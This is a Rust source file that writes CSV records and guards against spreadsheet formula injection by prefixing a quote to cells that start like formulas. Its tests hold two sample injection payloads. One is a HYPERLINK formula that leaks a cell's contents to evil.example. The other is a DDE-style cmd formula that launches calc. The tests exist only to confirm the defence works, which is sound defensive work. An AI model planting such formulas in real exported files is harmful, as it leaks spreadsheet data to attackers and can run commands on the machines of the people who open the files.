//! CSV as every `--format csv` and every `.csv` written by the app is made, through the `csv`
//! writer, each field made safe first.
//!
//! A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
//! return before one) as a formula, so such a cell is written with a leading `'`, which makes
//! it text. The rule applies to every cell, numbers included: the model refuses negative
//! numbers, so no figure rechain writes starts with `-` and none is changed by it.

use std::borrow::Cow;

use crate::text::clean;

/// One CSV record (RFC 4180 quoting, by the `csv` writer), ending in a newline.
pub fn csv_row<S: AsRef<str>>(fields: &[S]) -> String {
    csv_rows(std::iter::once(fields.iter().map(AsRef::as_ref)))
}

/// Records one after the other, each field through [`safe`].
pub fn csv_rows<'a, R, F>(rows: R) -> String
where
    R: IntoIterator<Item = F>,
    F: IntoIterator<Item = &'a str>,
{
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in rows {
        let fields: Vec<Cow<'_, str>> = row.into_iter().map(safe).collect();
        // Writing to memory fails only on records of different lengths, which callers never
        // write within one table.
        let _ = writer.write_record(fields.iter().map(|f| f.as_bytes()));
    }
    let bytes = writer.into_inner().unwrap_or_default();
    String::from_utf8(bytes).unwrap_or_default()
}

/// One field as it is written in a record.
pub fn csv_field(text: &str) -> Cow<'_, str> {
    let row = csv_row(&[text]);
    let field = row.strip_suffix('\n').unwrap_or(&row);
    if field == text {
        Cow::Borrowed(text)
    } else {
        Cow::Owned(field.to_owned())
    }
}

/// A field's text: unsafe characters shown as U+FFFD and a would-be formula made text.
fn safe(text: &str) -> Cow<'_, str> {
    defuse_formula(clean(text))
}

/// The text with `'` in front when a spreadsheet would start a formula with its first
/// character (or its first after white space, which some spreadsheets skip).
fn defuse_formula(text: Cow<'_, str>) -> Cow<'_, str> {
    let starts_formula =
        text.starts_with(['\t', '\r']) || text.trim_start().starts_with(['=', '+', '-', '@']);
    if starts_formula {
        Cow::Owned(format!("'{text}"))
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_become_text() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\""
        );
        assert_eq!(
            csv_field("@SUM(1+1)*cmd|' /C calc'!A0"),
            "'@SUM(1+1)*cmd|' /C calc'!A0"
        );
        assert_eq!(csv_field("+1"), "'+1");
        assert_eq!(csv_field("-2+3"), "'-2+3");
        assert_eq!(csv_field("\t=1"), "'\t=1");
        assert_eq!(csv_field(" =1"), "' =1");
        assert_eq!(csv_field("\n=1"), "\"'\n=1\"");
    }

    #[test]
    fn plain_cells_are_kept_and_quoted_only_when_needed() {
        assert_eq!(csv_field("Lynas Rare Earths"), "Lynas Rare Earths");
        assert_eq!(csv_field("a & b"), "a & b");
        assert_eq!(csv_field("10500"), "10500");
        assert_eq!(csv_field("2025-10-23"), "2025-10-23");
        assert_eq!(csv_field("one, \"two\""), "\"one, \"\"two\"\"\"");
        assert_eq!(csv_field("a\nb"), "\"a\nb\"");
        assert_eq!(csv_row(&["x", "y"]), "x,y\n");
    }
}
